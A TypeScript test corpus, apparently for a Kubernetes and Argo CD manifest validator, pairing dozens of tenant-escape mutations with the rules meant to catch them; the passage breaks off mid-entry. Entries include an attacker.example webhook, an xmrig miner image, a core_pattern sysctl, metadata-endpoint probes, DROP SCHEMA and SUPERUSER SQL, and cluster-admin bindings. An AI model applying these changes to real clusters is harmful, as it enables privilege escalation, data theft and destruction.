import type { EditableTree } from "./editable-tree.ts"

/**
 * The mutation corpus: realistic attacks by someone who can write the deploy branch (or a
 * compromised synth), each applied to a copy of the real synthesized output of the example
 * tenants, each named with the rule that must catch it.
 */
export interface Mutation {
  readonly attack: string
  readonly rule: string
  /**
   * The platform whose output is mutated: selfhosted unless said; `signed`: selfhosted with the
   * bot's signing key listed (see SIGNING_KEY_ID).
   */
  readonly mode?: "cloud" | "signed"
  readonly apply: (tree: EditableTree) => void
}

const app = (file: string) => `acme/app/${file}.yaml`
const platform = (file: string) => `acme/platform/${file}.yaml`
const argocd = (file: string) => `acme/argocd/${file}.yaml`
const DEPLOYMENT = app("deployment-api")
const SERVICE = app("service-api")
const INGRESS = app("ingress-api")
const NAMESPACE = platform("namespace-acme")
const ROLE = platform("role-read-tenant-acme-credentials")
const BINDING = platform("rolebinding-read-tenant-acme-credentials")
const JOB = platform("job-provision-acme")
const PROJECT = argocd("appproject-acme")
const APPLICATION = argocd("application-acme")
const PLATFORM_APPLICATION = argocd("application-acme-platform")
const PLATFORM_PROJECT = "_platform/argocd/appproject-platform.yaml" // in _platform/argocd/manifest.yaml

/** The key ID the `signed` platform lists. */
export const SIGNING_KEY_ID = "0123456789ABCDEF"

const pod = (tree: EditableTree) => tree.doc(DEPLOYMENT).spec.template.spec
const api = (tree: EditableTree) => pod(tree).containers[0]
const jobPod = (tree: EditableTree) => tree.doc(JOB).spec.template.spec
const psql = (tree: EditableTree) => jobPod(tree).initContainers[0]
const meta = (name: string, namespace?: string) => ({
  name,
  ...(namespace === undefined ? {} : { namespace }),
  labels: { "app.kubernetes.io/instance": "acme", "platform.parametric.dev/tenant": "acme" },
})
const policy = (name: string, spec: Record<string, unknown>) => ({
  apiVersion: "networking.k8s.io/v1",
  kind: "NetworkPolicy",
  metadata: meta(name, "acme"),
  spec,
})
const rbac = (kind: string, name: string, namespace: string | undefined, body: Record<string, unknown>) => ({
  apiVersion: "rbac.authorization.k8s.io/v1",
  kind,
  metadata: meta(name, namespace),
  ...body,
})

const services: ReadonlyArray<Mutation> = [
  {
    attack: "the API Service becomes an ExternalName alias of the shared PostgreSQL",
    rule: "service/no-external-name",
    apply: (tree) => {
      const spec = tree.doc(SERVICE).spec
      spec.type = "ExternalName"
      spec.externalName = "postgres.platform-data.svc.cluster.local"
      delete spec.selector
    },
  },
  {
    attack: "the API Service claims an external IP (CVE-2020-8554 traffic capture)",
    rule: "service/no-external-ips",
    apply: (tree) => {
      tree.doc(SERVICE).spec.externalIPs = ["10.96.0.10"]
    },
  },
  {
    attack: "the API Service is exposed on every node's port",
    rule: "mtb/no-nodeport-or-loadbalancer",
    apply: (tree) => {
      tree.doc(SERVICE).spec.type = "NodePort"
    },
  },
  {
    attack: "the API Service gets a cloud load balancer",
    rule: "mtb/no-nodeport-or-loadbalancer",
    apply: (tree) => {
      tree.doc(SERVICE).spec.type = "LoadBalancer"
    },
  },
  {
    attack: "a selector-less Service whose endpoints can be pointed anywhere",
    rule: "service/selector",
    apply: (tree) => {
      delete tree.doc(SERVICE).spec.selector
    },
  },
  {
    attack: "the Ingress routes to a service that is not the tenant's (postgres.platform-data)",
    rule: "ingress/backend",
    apply: (tree) => {
      tree.doc(INGRESS).spec.rules[0].http.paths[0].backend.service.name = "postgres.platform-data"
    },
  },
  {
    attack: "the Ingress routes to a resource backend (a bucket)",
    rule: "ingress/backend",
    apply: (tree) => {
      tree.doc(INGRESS).spec.defaultBackend = { resource: { apiGroup: "k8s.example.com", kind: "Bucket", name: "b" } }
    },
  },
  {
    attack: "the Ingress pulls in a Traefik middleware of kube-system",
    rule: "ingress/annotations",
    apply: (tree) => {
      tree.doc(INGRESS).metadata.annotations["traefik.ingress.kubernetes.io/router.middlewares"] =
        "kube-system-forward-auth@kubernetescrd"
    },
  },
  {
    attack: "the Ingress asks an internal issuer for certificates",
    rule: "ingress/annotations",
    apply: (tree) => {
      tree.doc(INGRESS).metadata.annotations["cert-manager.io/cluster-issuer"] = "internal-ca"
    },
  },
  {
    attack: "ExternalDNS is told to publish a name the Ingress does not serve",
    rule: "ingress/annotations",
    apply: (tree) => {
      tree.doc(INGRESS).metadata.annotations["external-dns.alpha.kubernetes.io/hostname"] += ",login.globex.example"
    },
  },
  {
    attack: "the Ingress uses another ingress class (an internal controller)",
    rule: "ingress/class",
    apply: (tree) => {
      tree.doc(INGRESS).spec.ingressClassName = "nginx-internal"
    },
  },
]

const addHost = (tree: EditableTree, host: string) => {
  const spec = tree.doc(INGRESS).spec
  spec.rules.push({ ...structuredClone(spec.rules[0]), host })
  spec.tls[0].hosts.push(host)
  tree.doc(INGRESS).metadata.annotations["external-dns.alpha.kubernetes.io/hostname"] += `,${host}`
}

const hostnames: ReadonlyArray<Mutation> = [
  {
    attack: "acme serves globex's custom domain",
    rule: "hostnames/unique",
    apply: (tree) => addHost(tree, "app.globex.example"),
  },
  {
    attack: "acme serves hobby's canonical hostname",
    rule: "hostnames/unique",
    apply: (tree) => addHost(tree, "hobby.apps.parametric.dev"),
  },
  {
    attack: "acme serves a platform hostname (argocd.apps.parametric.dev)",
    rule: "hostnames/platform-domain",
    apply: (tree) => addHost(tree, "argocd.apps.parametric.dev"),
  },
  {
    attack: "acme serves a wildcard",
    rule: "hostnames/concrete",
    apply: (tree) => addHost(tree, "*.acme.example"),
  },
  {
    attack: "acme adds a rule without host: every hostname without a better match",
    rule: "hostnames/concrete",
    apply: (tree) => {
      const spec = tree.doc(INGRESS).spec
      const { host: _host, ...rule } = structuredClone(spec.rules[0])
      spec.rules.push(rule)
    },
  },
]

const network: ReadonlyArray<Mutation> = [
  {
    attack: "egress to the whole internet",
    rule: "network/ip-blocks",
    apply: (tree) => {
      tree
        .doc(platform("networkpolicy-allow-data-egress"))
        .spec.egress.push({ to: [{ ipBlock: { cidr: "0.0.0.0/0" } }] })
    },
  },
  {
    attack: "egress to a public range (cloud mode, beside the managed services' ranges)",
    rule: "network/ip-blocks",
    mode: "cloud",
    apply: (tree) => {
      tree.doc(platform("networkpolicy-allow-data-egress")).spec.egress[0].to.push({ ipBlock: { cidr: "52.0.0.0/8" } })
    },
  },
  {
    attack: "egress widened from the managed PostgreSQL's range to the whole VPC (cloud mode)",
    rule: "network/ip-blocks",
    mode: "cloud",
    apply: (tree) => {
      tree.doc(platform("networkpolicy-allow-data-egress")).spec.egress[0].to[0].ipBlock.cidr = "10.0.0.0/8"
    },
  },
  {
    attack: "the default deny is deleted",
    rule: "mtb/default-deny",
    apply: (tree) => tree.remove(platform("networkpolicy-default-deny")),
  },
  {
    attack: "the default deny stops covering egress",
    rule: "mtb/default-deny",
    apply: (tree) => {
      tree.doc(platform("networkpolicy-default-deny")).spec.policyTypes = ["Ingress"]
    },
  },
  {
    attack: "an allow-all ingress policy beside the default deny",
    rule: "network/ingress-from",
    apply: (tree) =>
      tree.put(
        platform("networkpolicy-allow-all"),
        policy("allow-all", { podSelector: {}, policyTypes: ["Ingress"], ingress: [{}] }),
      ),
  },
  {
    attack: "ingress from every namespace (an empty namespaceSelector)",
    rule: "network/ingress-from",
    apply: (tree) => {
      tree.doc(platform("networkpolicy-allow-ingress-controller")).spec.ingress[0].from = [{ namespaceSelector: {} }]
    },
  },
  {
    attack: "ingress from anywhere by address",
    rule: "network/ingress-from",
    apply: (tree) => {
      tree
        .doc(platform("networkpolicy-allow-ingress-controller"))
        .spec.ingress[0].from.push({ ipBlock: { cidr: "0.0.0.0/0" } })
    },
  },
  {
    attack: "egress to another tenant's namespace",
    rule: "network/egress-to",
    apply: (tree) => {
      tree.doc(platform("networkpolicy-allow-data-egress")).spec.egress.push({
        to: [{ namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": "globex" } } }],
      })
    },
  },
  {
    attack: "DNS egress widened to every pod of kube-system (the API server's neighbours)",
    rule: "network/egress-to",
    apply: (tree) => {
      delete tree.doc(platform("networkpolicy-allow-dns")).spec.egress[0].to[0].podSelector
    },
  },
  {
    attack: "data egress pointed at the object store (Garage) in platform-data",
    rule: "network/egress-to",
    apply: (tree) => {
      tree.doc(platform("networkpolicy-allow-data-egress")).spec.egress[0].to[0].podSelector.matchLabels[
        "app.kubernetes.io/name"
      ] = "garage"
    },
  },
  {
    attack: "data egress without peers (an empty `to` is everywhere)",
    rule: "network/egress-to",
    apply: (tree) => {
      delete tree.doc(platform("networkpolicy-allow-data-egress")).spec.egress[1].to
    },
  },
]

const pods: ReadonlyArray<Mutation> = [
  {
    attack: "a privileged API container",
    rule: "pss-baseline/privileged",
    apply: (tree) => {
      api(tree).securityContext.privileged = true
    },
  },
  {
    attack: "the API pod on the host network",
    rule: "pss-baseline/host-namespaces",
    apply: (tree) => {
      pod(tree).hostNetwork = true
    },
  },
  {
    attack: "the node's root filesystem mounted",
    rule: "pss-baseline/host-path",
    apply: (tree) => {
      pod(tree).volumes.push({ name: "host", hostPath: { path: "/" } })
    },
  },
  {
    attack: "a host port",
    rule: "pss-baseline/host-ports",
    apply: (tree) => {
      api(tree).ports[0].hostPort = 443
    },
  },
  {
    attack: "AppArmor unconfined by annotation",
    rule: "pss-baseline/apparmor",
    apply: (tree) => {
      const template = tree.doc(DEPLOYMENT).spec.template
      template.metadata.annotations["container.apparmor.security.beta.kubernetes.io/api"] = "unconfined"
    },
  },
  {
    attack: "AppArmor unconfined by field",
    rule: "pss-baseline/apparmor",
    apply: (tree) => {
      pod(tree).securityContext.appArmorProfile = { type: "Unconfined" }
    },
  },
  {
    attack: "an SELinux super-privileged container type",
    rule: "pss-baseline/selinux",
    apply: (tree) => {
      api(tree).securityContext.seLinuxOptions = { type: "spc_t" }
    },
  },
  {
    attack: "an unmasked /proc",
    rule: "pss-baseline/proc-mount",
    apply: (tree) => {
      api(tree).securityContext.procMount = "Unmasked"
    },
  },
  {
    attack: "seccomp unconfined",
    rule: "pss-baseline/seccomp",
    apply: (tree) => {
      api(tree).securityContext.seccompProfile = { type: "Unconfined" }
    },
  },
  {
    attack: "an unsafe sysctl",
    rule: "pss-baseline/sysctls",
    apply: (tree) => {
      pod(tree).securityContext.sysctls = [{ name: "kernel.core_pattern", value: "|/tmp/x" }]
    },
  },
  {
    attack: "a probe aimed at the cloud metadata endpoint from the node",
    rule: "pss-baseline/host-probes",
    apply: (tree) => {
      api(tree).livenessProbe.httpGet.host = "169.254.169.254"
    },
  },
  {
    attack: "an NFS volume",
    rule: "pss-restricted/volume-types",
    apply: (tree) => {
      pod(tree).volumes.push({ name: "nfs", nfs: { server: "10.0.0.5", path: "/exports" } })
    },
  },
  {
    attack: "privilege escalation allowed",
    rule: "pss-restricted/privilege-escalation",
    apply: (tree) => {
      api(tree).securityContext.allowPrivilegeEscalation = true
    },
  },
  {
    attack: "running as root",
    rule: "pss-restricted/run-as-non-root",
    apply: (tree) => {
      api(tree).securityContext.runAsNonRoot = false
      pod(tree).securityContext.runAsNonRoot = false
    },
  },
  {
    attack: "running as UID 0",
    rule: "pss-restricted/run-as-user",
    apply: (tree) => {
      api(tree).securityContext.runAsUser = 0
    },
  },
  {
    attack: "CAP_SYS_ADMIN added",
    rule: "pss-restricted/capabilities",
    apply: (tree) => {
      api(tree).securityContext.capabilities.add = ["SYS_ADMIN"]
    },
  },
  {
    attack: "a Windows HostProcess container (a process on the node)",
    rule: "pss-baseline/host-process",
    apply: (tree) => {
      pod(tree).securityContext.windowsOptions = { hostProcess: true }
    },
  },
  {
    attack: "seccomp profile removed",
    rule: "pss-restricted/seccomp",
    apply: (tree) => {
      delete api(tree).securityContext.seccompProfile
    },
  },
  {
    attack: "limits removed: the API may take a whole node's CPU and memory",
    rule: "hygiene/requests-and-limits",
    apply: (tree) => {
      delete api(tree).resources.limits
    },
  },
  {
    attack: "probes removed: a wedged API keeps receiving traffic",
    rule: "hygiene/probes",
    apply: (tree) => {
      delete api(tree).readinessProbe
    },
  },
  {
    attack: "a writable root filesystem",
    rule: "hygiene/read-only-root-filesystem",
    apply: (tree) => {
      api(tree).securityContext.readOnlyRootFilesystem = false
    },
  },
  {
    attack: "the Deployment sheds its tenant and ownership labels",
    rule: "hygiene/required-labels",
    apply: (tree) => {
      delete tree.doc(DEPLOYMENT).metadata.labels["platform.parametric.dev/tenant"]
    },
  },
  {
    attack: "the PodDisruptionBudget of a replicated API removed",
    rule: "hygiene/pdb-for-replicated",
    apply: (tree) => tree.remove(app("poddisruptionbudget-api")),
  },
  {
    attack: "the API tolerates the control plane's taint and pins itself there",
    rule: "pod/scheduling",
    apply: (tree) => {
      pod(tree).tolerations = [
        { key: "node-role.kubernetes.io/control-plane", operator: "Exists", effect: "NoSchedule" },
      ]
      pod(tree).nodeSelector = { "node-role.kubernetes.io/control-plane": "" }
    },
  },
  {
    attack: "the API takes a system priority, evicting other tenants under pressure",
    rule: "pod/scheduling",
    apply: (tree) => {
      pod(tree).priorityClassName = "system-node-critical"
    },
  },
  {
    attack: "the app ships its own kube-root-ca.crt, replacing the CA the secret store trusts",
    rule: "tree/name",
    apply: (tree) => {
      const ca = tree.copy(app("configmap-api-env"))
      ca.metadata.name = "kube-root-ca.crt"
      ca.data = { "ca.crt": "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n" }
      tree.put(app("configmap-kube-root-ca.crt"), ca)
    },
  },
  {
    attack: "the workload runs as the secret store's credentials-reader account",
    rule: "pod/service-account",
    apply: (tree) => {
      pod(tree).serviceAccountName = "credentials-reader"
    },
  },
  {
    attack: "the workload mounts a Secret that is not its own",
    rule: "pod/secret-refs",
    apply: (tree) => {
      pod(tree).volumes.push({ name: "reader", secret: { secretName: "credentials-reader-token" } })
    },
  },
  {
    attack: "the API image swapped for an attacker's (a miner)",
    rule: "pod/image-repository",
    apply: (tree) => {
      api(tree).image = "docker.io/attacker/xmrig:6.21.0"
    },
  },
  {
    attack: "an unpinned image",
    rule: "hygiene/image-pinned",
    apply: (tree) => {
      api(tree).image = "ghcr.io/parametric-portal/api:latest"
    },
  },
  {
    attack: "an API token mounted into the workload",
    rule: "hygiene/no-token-automount",
    apply: (tree) => {
      pod(tree).automountServiceAccountToken = true
    },
  },
  {
    attack: "the API Deployment moved into another tenant's namespace",
    rule: "tree/namespace",
    apply: (tree) => {
      tree.doc(DEPLOYMENT).metadata.namespace = "globex"
    },
  },
]

const provisioning: ReadonlyArray<Mutation> = [
  {
    attack: "the provisioning hook Job runs in kube-system",
    rule: "tree/namespace",
    apply: (tree) => {
      tree.doc(JOB).metadata.namespace = "kube-system"
    },
  },
  {
    attack: "the provisioning Job (with the admin credentials) also reads globex's generated passwords",
    rule: "pod/secret-refs",
    apply: (tree) => {
      psql(tree).env.push({
        name: "OTHER",
        valueFrom: { secretKeyRef: { name: "tenant-globex-credentials", key: "POSTGRES_PASSWORD" } },
      })
    },
  },
  {
    attack: "the provisioning Job runs inline SQL dropping globex's schema",
    rule: "platform/provisioning-job",
    apply: (tree) => {
      psql(tree).command.push("-c", "DROP SCHEMA tenant_globex CASCADE")
    },
  },
  {
    attack: "the provisioning Job provisions (resets the password of) globex's database role",
    rule: "platform/provisioning-job",
    apply: (tree) => {
      const command: Array<string> = psql(tree).command
      command[command.indexOf("role=tenant_acme")] = "role=tenant_globex"
    },
  },
  {
    attack: "the provisioning Job gives acme's Redis user globex's key prefix",
    rule: "platform/provisioning-job",
    apply: (tree) => {
      const env: Array<{ name: string; value?: string }> = jobPod(tree).containers[0].env
      const prefix = env.find((variable) => variable.name === "TENANT_KEY_PREFIX")
      if (prefix) prefix.value = "globex:"
    },
  },
  {
    attack: "the provisioning script gains a statement run as database admin",
    rule: "platform/provisioning-scripts",
    apply: (tree) => {
      tree.doc(platform("configmap-provision-acme")).data["provision.sql"] += "\nALTER ROLE tenant_acme SUPERUSER;\n"
    },
  },
  {
    attack: "the provisioning Job runs an attacker's image with the admin credentials",
    rule: "pod/image-repository",
    apply: (tree) => {
      psql(tree).image = "docker.io/attacker/psql:17"
    },
  },
  {
    attack: "the provisioning Job runs as the platform's External Secrets controller account",
    rule: "pod/service-account",
    apply: (tree) => {
      jobPod(tree).serviceAccountName = "external-secrets"
    },
  },
  {
    attack: "acme's folder overwrites globex's provisioning script",
    rule: "tree/name",
    apply: (tree) => {
      const scripts = tree.copy(platform("configmap-provision-acme"))
      scripts.metadata.name = "provision-globex"
      tree.put(platform("configmap-provision-globex"), scripts)
    },
  },
]

const namespace: ReadonlyArray<Mutation> = [
  {
    attack: "the namespace's Pod Security enforcement set to privileged",
    rule: "namespace/pod-security",
    apply: (tree) => {
      tree.doc(NAMESPACE).metadata.labels["pod-security.kubernetes.io/enforce"] = "privileged"
    },
  },
  {
    attack: "the namespace's Pod Security labels removed",
    rule: "namespace/pod-security",
    apply: (tree) => {
      const labels = tree.doc(NAMESPACE).metadata.labels
      for (const key of Object.keys(labels)) if (key.startsWith("pod-security.")) delete labels[key]
    },
  },
  {
    attack: "the namespace pinned to an ancient Pod Security version",
    rule: "namespace/pod-security",
    apply: (tree) => {
      tree.doc(NAMESPACE).metadata.labels["pod-security.kubernetes.io/enforce-version"] = "v1.22"
    },
  },
  {
    attack: "the namespace drops its tenant label (escaping the admission policies' binding)",
    rule: "namespace/tenant-label",
    apply: (tree) => {
      delete tree.doc(NAMESPACE).metadata.labels["platform.parametric.dev/tenant"]
    },
  },
  {
    attack: "the Namespace object removed from the folder",
    rule: "namespace/present",
    apply: (tree) => tree.remove(NAMESPACE),
  },
  {
    attack: "acme's folder takes over kube-system's Namespace",
    rule: "tree/name",
    apply: (tree) => {
      const kubeSystem = tree.copy(NAMESPACE)
      kubeSystem.metadata.name = "kube-system"
      tree.put(platform("namespace-kube-system"), kubeSystem)
    },
  },
  {
    attack: "the quota removed",
    rule: "mtb/quota-present",
    apply: (tree) => tree.remove(platform("resourcequota-tenant-quota")),
  },
  {
    attack: "the quota no longer counts pods",
    rule: "mtb/quota-complete",
    apply: (tree) => {
      delete tree.doc(platform("resourcequota-tenant-quota")).spec.hard.pods
    },
  },
  {
    attack: "a second, generous quota document for the same object",
    rule: "tree/duplicate",
    apply: (tree) => {
      const quota = tree.copy(platform("resourcequota-tenant-quota"))
      quota.spec.hard["requests.cpu"] = "1000"
      tree.append(platform("resourcequota-tenant-quota"), quota)
    },
  },
]

const rbacMutations: ReadonlyArray<Mutation> = [
  {
    attack: "a ClusterRoleBinding to cluster-admin carrying a bogus metadata.namespace",
    rule: "mtb/no-cluster-scoped",
    apply: (tree) =>
      tree.put(
        platform("clusterrolebinding-acme-admin"),
        rbac("ClusterRoleBinding", "acme-admin", "acme", {
          roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin" },
          subjects: [{ kind: "ServiceAccount", name: "api", namespace: "acme" }],
        }),
      ),
  },
  {
    attack: "a RoleBinding to cluster-admin in kube-system",
    rule: "rbac/role-ref",
    apply: (tree) => {
      const binding = tree.doc(BINDING)
      binding.metadata.namespace = "kube-system"
      binding.roleRef = { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin" }
    },
  },
  {
    attack: "the store's Role loses its resourceNames (every Secret of the platform namespace)",
    rule: "rbac/resource-names",
    apply: (tree) => {
      delete tree.doc(ROLE).rules[0].resourceNames
    },
  },
  {
    attack: "the store's Role names the PostgreSQL admin Secret",
    rule: "rbac/resource-names",
    apply: (tree) => {
      tree.doc(ROLE).rules[0].resourceNames.push("postgres-admin")
    },
  },
  {
    attack: "the store's Role may list secrets",
    rule: "rbac/verbs",
    apply: (tree) => {
      tree.doc(ROLE).rules[0].verbs.push("list")
    },
  },
  {
    attack: "the store's Role reaches every resource",
    rule: "rbac/no-wildcards",
    apply: (tree) => {
      tree.doc(ROLE).rules[0].resources = ["*"]
    },
  },
  {
    attack: "the store's Role may create pods in the platform namespace",
    rule: "rbac/resources",
    apply: (tree) => {
      tree.doc(ROLE).rules.push({ apiGroups: [""], resources: ["pods"], verbs: ["get"], resourceNames: ["x"] })
    },
  },
  {
    attack: "the binding also grants every authenticated user",
    rule: "rbac/subjects",
    apply: (tree) => {
      tree.doc(BINDING).subjects.push({
        apiGroup: "rbac.authorization.k8s.io",
        kind: "Group",
        name: "system:authenticated",
      })
    },
  },
  {
    attack: "the binding grants the workload's own ServiceAccount",
    rule: "rbac/subjects",
    apply: (tree) => {
      tree.doc(BINDING).subjects[0].name = "api"
    },
  },
  {
    attack: "the tenant's app grants itself a Role",
    rule: "tree/kind-in-component",
    apply: (tree) =>
      tree.put(
        app("role-self"),
        rbac("Role", "self", "acme", { rules: [{ apiGroups: [""], resources: ["secrets"], verbs: ["get"] }] }),
      ),
  },
]

const credentials: ReadonlyArray<Mutation> = [
  {
    attack: "the tenant's SecretStore reads kube-system",
    rule: "eso/secret-store",
    apply: (tree) => {
      tree.doc(platform("secretstore-platform-credentials")).spec.provider.kubernetes.remoteNamespace = "kube-system"
    },
  },
  {
    attack: "api-credentials reads the Redis admin Secret",
    rule: "eso/external-secret",
    apply: (tree) => {
      tree.doc(platform("externalsecret-api-credentials")).spec.data[1].remoteRef.key = "redis-admin"
    },
  },
  {
    attack: "api-credentials reads through a ClusterSecretStore",
    rule: "eso/external-secret",
    apply: (tree) => {
      tree.doc(platform("externalsecret-api-credentials")).spec.secretStoreRef = {
        kind: "ClusterSecretStore",
        name: "cluster-vault",
      }
    },
  },
  {
    attack: "the generated credentials overwrite the PostgreSQL admin Secret",
    rule: "eso/external-secret",
    apply: (tree) => {
      tree.doc(platform("externalsecret-tenant-acme-credentials")).spec.target.name = "postgres-admin"
    },
  },
  {
    attack: "api-credentials templated into a service-account token the cluster mints for credentials-reader",
    rule: "eso/external-secret",
    apply: (tree) => {
      tree.doc(platform("externalsecret-api-credentials")).spec.target.template = {
        type: "kubernetes.io/service-account-token",
        metadata: { annotations: { "kubernetes.io/service-account.name": "credentials-reader" } },
      }
    },
  },
  {
    attack: "a ClusterSecretStore added to the tenant folder",
    rule: "tree/unknown-kind",
    apply: (tree) =>
      tree.put(platform("clustersecretstore-all"), {
        apiVersion: "external-secrets.io/v1",
        kind: "ClusterSecretStore",
        metadata: meta("all"),
        spec: { provider: { kubernetes: { remoteNamespace: "platform" } } },
      }),
  },
]

const argo: ReadonlyArray<Mutation> = [
  {
    attack: "the tenant project allows every namespaced kind",
    rule: "argocd/project-kinds",
    apply: (tree) => {
      tree.doc(PROJECT).spec.namespaceResourceWhitelist = [{ group: "*", kind: "*" }]
    },
  },
  {
    attack: "the tenant project allows ClusterRoleBindings",
    rule: "argocd/project-kinds",
    apply: (tree) => {
      tree.doc(PROJECT).spec.clusterResourceWhitelist = [
        { group: "rbac.authorization.k8s.io", kind: "ClusterRoleBinding" },
      ]
    },
  },
  {
    attack: "the tenant project names its destination cluster by name",
    rule: "argocd/project-destinations",
    apply: (tree) => {
      tree.doc(PROJECT).spec.destinations.push({ name: "in-cluster", namespace: "*" })
    },
  },
  {
    attack: "the tenant project may deploy into every namespace",
    rule: "argocd/project-destinations",
    apply: (tree) => {
      tree.doc(PROJECT).spec.destinations[0].namespace = "*"
    },
  },
  {
    attack: "the tenant project accepts Applications from any namespace",
    rule: "argocd/project-fields",
    apply: (tree) => {
      tree.doc(PROJECT).spec.sourceNamespaces = ["*"]
    },
  },
  {
    attack: "the tenant project gains a role with a sync-everything policy (and tokens)",
    rule: "argocd/project-fields",
    apply: (tree) => {
      tree.doc(PROJECT).spec.roles = [{ name: "ci", policies: ["p, proj:acme:ci, applications, *, acme/*, allow"] }]
    },
  },
  {
    attack: "the tenant project impersonates Argo CD's controller account",
    rule: "argocd/project-fields",
    apply: (tree) => {
      tree.doc(PROJECT).spec.destinationServiceAccounts = [
        {
          server: "https://kubernetes.default.svc",
          namespace: "acme",
          defaultServiceAccount: "argocd:argocd-application-controller",
        },
      ]
    },
  },
  {
    attack: "the tenant project sources any repository",
    rule: "argocd/project-sources",
    apply: (tree) => {
      tree.doc(PROJECT).spec.sourceRepos = ["*"]
    },
  },
  {
    attack: "an extra, wide-open AppProject acme-x",
    rule: "tree/name",
    apply: (tree) => {
      const project = tree.copy(PROJECT)
      project.metadata.name = "acme-x"
      project.spec.destinations = [{ server: "https://kubernetes.default.svc", namespace: "*" }]
      tree.put(argocd("appproject-acme-x"), project)
    },
  },
  {
    attack: "the workload Application moves to the platform project, targeting argocd",
    rule: "argocd/application-project",
    apply: (tree) => {
      const spec = tree.doc(APPLICATION).spec
      spec.project = "platform"
      spec.destination.namespace = "argocd"
    },
  },
  {
    attack: "the workload Application deploys into the platform namespace",
    rule: "argocd/confined-to-tenant",
    apply: (tree) => {
      tree.doc(APPLICATION).spec.destination.namespace = "platform"
    },
  },
  {
    attack: "the workload Application carries an operation: a forced, replacing sync",
    rule: "argocd/application-fields",
    apply: (tree) => {
      tree.doc(APPLICATION).operation = {
        sync: { syncStrategy: { apply: { force: true } }, syncOptions: ["Replace=true"] },
      }
    },
  },
  {
    attack: "the Deployment is told to survive its tenant's decommissioning",
    rule: "argocd/resource-annotations",
    apply: (tree) => {
      tree.doc(DEPLOYMENT).metadata.annotations = { "argocd.argoproj.io/sync-options": "Delete=false,Prune=false" }
    },
  },
  {
    attack: "the quota becomes a hook, deleted once the sync succeeds",
    rule: "argocd/resource-annotations",
    apply: (tree) => {
      const annotations = tree.doc(platform("resourcequota-tenant-quota")).metadata.annotations
      annotations["argocd.argoproj.io/hook"] = "PreSync"
      annotations["argocd.argoproj.io/hook-delete-policy"] = "HookSucceeded"
    },
  },
  {
    attack: "the workload Application uses the default project",
    rule: "argocd/application-project",
    apply: (tree) => {
      tree.doc(APPLICATION).spec.project = "default"
    },
  },
  {
    attack: "the platform Application deploys into kube-system",
    rule: "argocd/application-destination",
    apply: (tree) => {
      tree.doc(PLATFORM_APPLICATION).spec.destination.namespace = "kube-system"
    },
  },
  {
    attack: "the workload Application targets a cluster by name",
    rule: "argocd/application-destination",
    apply: (tree) => {
      const destination = tree.doc(APPLICATION).spec.destination
      delete destination.server
      destination.name = "production-eu"
    },
  },
  {
    attack: "the workload Application deploys globex's folder",
    rule: "argocd/application-source",
    apply: (tree) => {
      tree.doc(APPLICATION).spec.source.path = "globex/app"
    },
  },
  {
    attack: "the platform Application reads an attacker's fork",
    rule: "argocd/application-source",
    apply: (tree) => {
      tree.doc(PLATFORM_APPLICATION).spec.source.repoURL = "https://github.com/attacker/infrastructure.git"
    },
  },
  {
    attack: "the workload Application renders a Helm chart",
    rule: "argocd/application-source",
    apply: (tree) => {
      tree.doc(APPLICATION).spec.source.helm = { valuesObject: { rbac: { create: true } } }
    },
  },
  {
    attack: "the platform Application relabels the namespace through managedNamespaceMetadata",
    rule: "argocd/application-fields",
    apply: (tree) => {
      const syncPolicy = tree.doc(PLATFORM_APPLICATION).spec.syncPolicy
      syncPolicy.syncOptions.push("CreateNamespace=true")
      syncPolicy.managedNamespaceMetadata = { labels: { "pod-security.kubernetes.io/enforce": "privileged" } }
    },
  },
  {
    attack: "the platform Application ignores drift of the Namespace's labels",
    rule: "argocd/application-fields",
    apply: (tree) => {
      tree.doc(PLATFORM_APPLICATION).spec.ignoreDifferences = [
        { kind: "Namespace", jsonPointers: ["/metadata/labels"] },
      ]
    },
  },
  {
    attack: "the platform project may deploy into kube-system",
    rule: "argocd/platform-project",
    apply: (tree) => {
      tree
        .doc(PLATFORM_PROJECT)
        .spec.destinations.push({ server: "https://kubernetes.default.svc", namespace: "kube-system" })
    },
  },
  {
    attack: "the platform project may create any cluster-scoped kind",
    rule: "argocd/platform-project",
    apply: (tree) => {
      tree.doc(PLATFORM_PROJECT).spec.clusterResourceWhitelist.push({ group: "*", kind: "*" })
    },
  },
  {
    attack: "the platform project may write Secrets",
    rule: "argocd/platform-project",
    apply: (tree) => {
      tree.doc(PLATFORM_PROJECT).spec.namespaceResourceWhitelist.push({ group: "", kind: "Secret" })
    },
  },
  {
    attack: "the platform project drops its signatureKeys, so an unsigned commit syncs",
    rule: "argocd/project-signature",
    mode: "signed",
    apply: (tree) => {
      delete tree.doc(PLATFORM_PROJECT).spec.signatureKeys
    },
  },
  {
    attack: "the tenant project also trusts the attacker's key",
    rule: "argocd/project-signature",
    mode: "signed",
    apply: (tree) => {
      tree.doc(PROJECT).spec.signatureKeys.push({ keyID: "FEDCBA9876543210" })
    },
  },
  {
    attack: "the tenant project trusts only the attacker's key",
    rule: "argocd/project-signature",
    mode: "signed",
    apply: (tree) => {
      tree.doc(PROJECT).spec.signatureKeys = [{ keyID: "FEDCBA9876543210" }]
    },
  },
  {
    attack: "an Application slipped into the fleet folder",
    rule: "tree/kind-in-component",
    apply: (tree) => tree.put("_platform/argocd/application-backdoor.yaml", tree.copy(APPLICATION)),
  },
]

const layout: ReadonlyArray<Mutation> = [
  {
    attack: "a merge key smuggles fields Go's YAML applies and this parser would not",
    rule: "tree/yaml",
    apply: (tree) =>
      tree.raw(
        app("service-api"),
        "base: &base\n  type: NodePort\napiVersion: v1\nkind: Service\nmetadata:\n  name: api\nspec:\n  <<: *base\n  selector: {a: b}\n",
      ),
  },
  {
    attack: "a kustomization turns the folder into a Kustomize source",
    rule: "tree/unknown-kind",
    apply: (tree) =>
      tree.put(app("kustomization"), {
        apiVersion: "kustomize.config.k8s.io/v1beta1",
        kind: "Kustomization",
        metadata: { name: "k" },
        resources: ["https://github.com/attacker/k8s"],
      }),
  },
  {
    attack: "a webhook that sees every object of the cluster",
    rule: "tree/unknown-kind",
    apply: (tree) =>
      tree.put(platform("validatingwebhookconfiguration-audit"), {
        apiVersion: "admissionregistration.k8s.io/v1",
        kind: "ValidatingWebhookConfiguration",
        metadata: meta("audit"),
        webhooks: [{ name: "audit.attacker.example", clientConfig: { url: "https://attacker.example/" } }],
      }),
  },
  {
    attack: "a bare Pod, in JSON, beside the YAML",
    rule: "tree/unknown-kind",
